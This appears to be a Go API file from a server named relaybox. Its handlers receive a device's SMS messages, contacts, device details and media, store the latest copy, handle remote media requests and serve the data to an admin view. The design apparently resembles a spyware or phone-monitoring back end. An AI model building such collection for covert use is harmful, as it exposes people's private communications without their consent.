package api

import (
	"bytes"
	"encoding/json"
	"errors"
	"net/http"

	"github.com/nerrad567/relaybox/internal/admin"
	"github.com/nerrad567/relaybox/internal/device"
	"github.com/nerrad567/relaybox/internal/mailbox"
)

// telemetryRoute binds a URL segment under /telemetry to a latest-value slot,
// the body field that carries the value and the admin accessor that reads it.
type telemetryRoute struct {
	path  string
	slot  mailbox.Slot
	field string
	array bool
	fetch func(*admin.Query, string) json.RawMessage
}

var telemetryRoutes = []telemetryRoute{
	{path: "sms", slot: mailbox.SlotSMS, field: "sms", fetch: (*admin.Query).GetSMS},
	{path: "contacts", slot: mailbox.SlotContacts, field: "contacts", array: true, fetch: (*admin.Query).GetContacts},
	{path: "device-details", slot: mailbox.SlotDeviceDetails, field: "details", fetch: (*admin.Query).GetDeviceDetails},
	{path: "media", slot: mailbox.SlotMedia, field: "media", fetch: (*admin.Query).GetMedia},
}

// handleUpload stores the uploaded value in the route's slot, replacing the
// previous one.
func (s *Server) handleUpload(t telemetryRoute) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		var body map[string]json.RawMessage
		if !decodeJSON(w, r, &body) {
			return
		}

		var deviceID string
		if raw, ok := body["deviceId"]; ok {
			if err := json.Unmarshal(raw, &deviceID); err != nil {
				writeBadRequest(w, "deviceId must be a string")
				return
			}
		}
		if deviceID == "" {
			writeBadRequest(w, "deviceId is required")
			return
		}

		value := bytes.TrimSpace(body[t.field])
		if len(value) == 0 || bytes.Equal(value, []byte("null")) {
			writeBadRequest(w, t.field+" is required")
			return
		}

		total := 0
		if t.array {
			var items []json.RawMessage
			if err := json.Unmarshal(value, &items); err != nil {
				writeBadRequest(w, t.field+" must be an array")
				return
			}
			total = len(items)
		}

		ctx := r.Context()
		err := s.registry.SetLatest(ctx, deviceID, t.slot, value)
		if err != nil && !errors.Is(err, device.ErrPersist) {
			s.writeDomainError(w, r, err)
			return
		}
		if err != nil {
			s.logger.Warn("telemetry stored without persistence", "device_id", deviceID, "slot", string(t.slot), "error", err)
		}

		// A media upload answers the outstanding media request.
		if t.slot == mailbox.SlotMedia {
			if ferr := s.registry.SetFlag(ctx, deviceID, mailbox.FlagMedia, false); ferr != nil {
				s.logger.Warn("clearing media flag failed", "device_id", deviceID, "error", ferr)
			}
		}
		s.registry.Touch(deviceID)

		if s.telemetry != nil {
			s.telemetry.RecordTelemetryUpload(deviceID, string(t.slot), len(value))
		}
		s.hub.Broadcast(EventTelemetryUpdated, map[string]any{
			"deviceId": deviceID,
			"slot":     t.slot,
		})

		resp := map[string]any{"success": true}
		if t.array {
			resp["total"] = total
		}
		writeJSON(w, http.StatusOK, resp)
	}
}

// handleFetch returns the slot's latest value, or its empty default.
func (s *Server) handleFetch(t telemetryRoute) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		deviceID := r.URL.Query().Get("deviceId")
		if deviceID == "" {
			writeBadRequest(w, "deviceId is required")
			return
		}
		writeRawJSON(w, http.StatusOK, t.fetch(s.admin, deviceID))
	}
}
